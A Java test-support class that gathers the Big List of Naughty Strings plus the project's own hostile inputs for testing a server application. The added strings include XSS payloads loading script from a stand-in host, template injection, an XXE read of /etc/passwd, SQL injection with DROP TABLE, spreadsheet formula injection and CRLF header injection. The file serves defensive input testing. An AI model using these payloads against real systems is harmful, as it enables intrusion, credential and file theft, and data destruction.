package org.licet.server.attack;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.licet.server.testing.Http;
import tools.jackson.databind.JsonNode;

/** The Big List of Naughty Strings, which the build's {@code npm ci} brings, and some of our own. */
public final class NaughtyStrings {

    private static final Path LIST = Path.of("src/main/frontend/node_modules/big-list-of-naughty-strings/blns.json");

    /** What the list lacks: ends of our own markup, templates, expressions, lines at the edges, marks of direction. */
    private static final List<String> OURS = List.of(
            "</textarea><script>alert(1)</script>",
            "</dd></dl></main><script src=//evil.example></script>",
            "\"><input name=_csrf value=1><button formaction=//evil.example>",
            "${7*7} #{7*7} <#assign x=1>[#if] <@layout.page title='x'/> ${.version}",
            "{{7*7}} {{constructor.constructor('alert(1)')()}}",
            "\n\n  two lines above and below  \n\n",
            "a\tb\n\tc",
            "&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp;",
            "<!-- --!> <![CDATA[ ]]> <?xml ?> <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> &e;",
            "\u202egnirts desrever\u202c \u2066\u2069 \u0085 \u00a0 \u00ad",
            "e\u0301 \u00e9 \u0219\u021b \u015f\u0163 \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
            "' OR '1'='1'; DROP TABLE application; --",
            "=cmd|' /C calc'!A0",
            "null undefined true NaN [object Object]",
            "%00 %0d%0aSet-Cookie: a=b \\u0000 \\x00");

    private NaughtyStrings() {}

    /** All, of which a few are no text ({@link #isText}). */
    public static List<String> all() {
        try {
            JsonNode list = Http.parse(Files.readString(LIST));
            return java.util.stream.Stream.concat(list.valueStream().map(JsonNode::stringValue), OURS.stream())
                    .toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Those that can be filed. */
    public static List<String> texts() {
        return all().stream().filter(text -> !text.isEmpty() && isText(text)).toList();
    }

    /** Whether XML 1.0 can carry it, as acts and messages must. */
    public static boolean isText(String text) {
        return text.codePoints()
                .allMatch(point -> point >= ' ' && point != 0xfffe && point != 0xffff || "\t\n\r".indexOf(point) >= 0);
    }
}
